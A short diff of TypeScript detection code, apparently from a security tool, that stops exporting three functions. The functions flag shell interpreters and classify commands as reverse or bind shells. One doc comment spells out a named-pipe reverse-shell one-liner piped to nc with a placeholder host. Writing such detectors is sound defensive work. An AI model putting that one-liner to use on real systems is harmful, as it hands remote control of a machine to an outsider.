@@ -39,12 +39,12 @@ const SHELL =
   /^\s*(?:exec\s+)?["']?(?:\S*[\\/])?(?:(?:ba|z|da|k|c|tc|fi|a|rba)?sh|cmd|powershell|pwsh|python[\d.]*|perl|ruby|php|busybox\s+sh)(?:\.exe)?(?:["'\s,]|$)/i;
 
 /** A shell or an interpreter that would obey whoever is at the other end. */
-export function isShellCommand(text: string): boolean {
+function isShellCommand(text: string): boolean {
   return SHELL.test(text);
 }
 
 /** A command is tied to a connection: from here to a host, or for whoever connects. */
-export function tieCommand(run: Invocation, command: Field, listens: boolean, host: string | undefined): void {
+function tieCommand(run: Invocation, command: Field, listens: boolean, host: string | undefined): void {
   const target = host === undefined ? {} : { target: hostTarget(host) };
   if (isShellCommand(command.text))
     run.emit({ kind: "network", action: listens ? "bind-shell" : "reverse-shell", ...target });
@@ -58,7 +58,7 @@ export function tieCommand(run: Invocation, command: Field, listens: boolean, ho
  * The program before this one in the pipeline is a shell that reads commands (`cat f | sh -i | nc host port > f`):
  * what it prints goes to the socket, and what comes from there reaches it through a named pipe.
  */
-export function shellPipesInto(run: Invocation): boolean {
+function shellPipesInto(run: Invocation): boolean {
   if (run.stdin.empty || !run.stdin.taint.output) return false;
   const programs = run.context.effects.filter((effect) => effect.kind === "execute");
   const before = programs.at(-2);
